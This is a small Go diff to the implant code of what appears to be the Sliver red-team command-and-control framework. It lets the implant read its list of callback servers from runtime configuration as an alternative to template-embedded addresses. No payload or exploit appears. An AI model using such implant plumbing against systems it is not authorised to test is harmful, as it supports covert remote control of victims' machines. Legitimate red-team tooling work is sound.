@@ -27,6 +27,10 @@ import (
 	"net/url"
 	"strconv"
 	"time"
+
+	// {{if .Config.ConfigKeySource}}
+	"github.com/bishopfox/sliver/implant/sliver/runtimeconfig"
+	// {{end}}
 )
 
 const (
@@ -50,11 +54,20 @@ func C2Generator(abort <-chan struct{}, temporaryC2 ...string) <-chan *url.URL {
 			})
 		}
 	} else {
+		// {{if .Config.ConfigKeySource}}
+		for _, c2 := range runtimeconfig.C2() {
+			c2 := c2
+			c2Servers = append(c2Servers, func() string {
+				return c2
+			})
+		}
+		// {{else}}
 		// {{range $index, $value := .Config.C2}}
 		c2Servers = append(c2Servers, func() string {
 			return "{{$value}}" // {{$index}}
 		})
 		// {{end}} - range
+		// {{end}}
 	}
 
 	generator := make(chan *url.URL)